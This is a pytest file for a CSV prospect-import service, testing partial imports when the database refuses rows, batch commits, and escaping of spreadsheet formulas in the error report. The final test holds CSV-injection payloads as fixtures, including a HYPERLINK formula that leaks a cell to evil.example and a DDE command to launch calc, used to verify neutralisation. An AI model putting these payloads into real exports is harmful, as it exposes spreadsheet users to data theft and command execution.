"""Rows the database refuses leave the good ones in, and the report cannot run formulas."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from sqlalchemy import Engine, select

from bot.grammar import csv_rows
from bot.services.prospect_import import (
    BATCH,
    SkippedRow,
    UnreadableFile,
    check_export,
    report_csv,
    run_import,
)
from storage.db import make_session_factory
from storage.models import ProspectRow
from storage.privacy import suppression_key
from tests.slack import MONDAY_MORNING

KEY = suppression_key(None)
REFUSED = "Refused Row"


def export_of(rows: list[str], max_rows: int | None = None) -> io.BytesIO:
    return io.BytesIO(("Name,Phone\n" + "\n".join(rows) + "\n").encode())


def fifty_and(bad: str) -> list[str]:
    rows = [f"Prospect {i:02d},+1 312 555 {i:04d}" for i in range(50)]
    rows.insert(25, f"{bad},+1 312 555 9999")
    return rows


def stored_names(engine: Engine) -> set[str]:
    with make_session_factory(engine)() as session:
        return set(session.scalars(select(ProspectRow.name)))


@pytest.fixture
def refusing_database(engine: Engine) -> Iterator[Engine]:
    """The database itself refuses one name: what a row the checks let through meets."""
    with engine.begin() as connection:
        if engine.dialect.name == "sqlite":
            connection.exec_driver_sql(
                "CREATE TRIGGER refuse_one BEFORE INSERT ON prospects"
                f" WHEN NEW.name = '{REFUSED}' BEGIN SELECT RAISE(ABORT, 'refused'); END"
            )
        else:
            connection.exec_driver_sql(
                "CREATE FUNCTION refuse_one() RETURNS trigger AS $$ BEGIN"
                f" IF NEW.name = '{REFUSED}' THEN RAISE EXCEPTION 'refused'; END IF;"
                " RETURN NEW; END $$ LANGUAGE plpgsql"
            )
            connection.exec_driver_sql(
                "CREATE TRIGGER refuse_one BEFORE INSERT ON prospects"
                " FOR EACH ROW EXECUTE FUNCTION refuse_one()"
            )
    yield engine
    with engine.begin() as connection:
        connection.exec_driver_sql(
            "DROP TRIGGER refuse_one" + ("" if engine.dialect.name == "sqlite" else " ON prospects")
        )
        if engine.dialect.name != "sqlite":
            connection.exec_driver_sql("DROP FUNCTION refuse_one()")


def test_a_row_the_database_refuses_leaves_the_fifty_good_ones_in(
    refusing_database: Engine,
) -> None:
    export = check_export(export_of(fifty_and(REFUSED)), "leads.csv")
    report = run_import(
        make_session_factory(refusing_database),
        export,
        "T1",
        "U1",
        MONDAY_MORNING,
        suppression_key=KEY,
    )
    assert report.imported == 50
    (skipped,) = report.skipped
    assert (skipped.row, skipped.kind) == (27, "error")  # data row 25; the header is row 1
    assert "not imported" in skipped.reason
    assert len(stored_names(refusing_database)) == 50 and REFUSED not in stored_names(
        refusing_database
    )


def test_a_refused_row_is_not_taken_for_the_twin_of_a_later_one(
    refusing_database: Engine,
) -> None:
    rows = [f"{REFUSED},+1 312 555 0001", "Someone,+1 312 555 0001"]
    report = run_import(
        make_session_factory(refusing_database),
        check_export(export_of(rows), "leads.csv"),
        "T1",
        "U1",
        MONDAY_MORNING,
        suppression_key=KEY,
    )
    assert report.imported == 1 and stored_names(refusing_database) == {"Someone"}


def test_postgresql_refusing_a_nul_the_checks_missed_costs_only_that_row(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    if engine.dialect.name != "postgresql":
        pytest.skip("SQLite stores a NUL")
    monkeypatch.setattr(csv_rows, "unstorable_text", lambda text, what: None)
    export = check_export(export_of(fifty_and("Nul\x00 Row")), "leads.csv")
    report = run_import(
        make_session_factory(engine), export, "T1", "U1", MONDAY_MORNING, suppression_key=KEY
    )
    assert report.imported == 50 and report.errors == 1


def test_every_batch_is_committed_as_it_goes(engine: Engine) -> None:
    rows = [f"Prospect {i:04d},+1 312 555 {i:04d}" for i in range(BATCH + 10)]
    seen: list[int] = []

    def progress(taken: int) -> None:
        seen.append(len(stored_names(engine)))

    run_import(
        make_session_factory(engine),
        check_export(export_of(rows), "leads.csv"),
        "T1",
        "U1",
        MONDAY_MORNING,
        progress=progress,
        suppression_key=KEY,
    )
    assert seen == [BATCH, BATCH + 10]


def test_a_file_is_read_whole_before_a_row_is_written() -> None:
    broken = io.BytesIO(b"Name,Phone\nJane,1\n" + b"Bad \xff byte,2\n")
    with pytest.raises(UnreadableFile, match="not UTF-8 text"):
        check_export(broken, "leads.csv")
    with pytest.raises(UnreadableFile, match="more than 2 rows"):
        check_export(export_of(["a", "b", "c"]), "leads.csv", max_rows=2)


def test_the_report_neutralises_cells_a_spreadsheet_would_run() -> None:
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+2",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
    ]
    report = report_csv(["Name", "=cmd|' /C calc'!A0"], [SkippedRow(2, "error", "-bad", hostile)])
    header, row = list(csv.reader(io.StringIO(report)))
    assert header[-1].startswith("'")
    assert row[:2] == ["2", "error"]
    for cell in row[2:]:
        assert cell.startswith("'"), cell
    # Plain numbers and text stay as they were.
    plain = report_csv(["Name"], [SkippedRow(3, "error", "why", ["Jane", "-12", "+1 312"])])
    assert list(csv.reader(io.StringIO(plain)))[1][3:5] == ["Jane", "-12"]
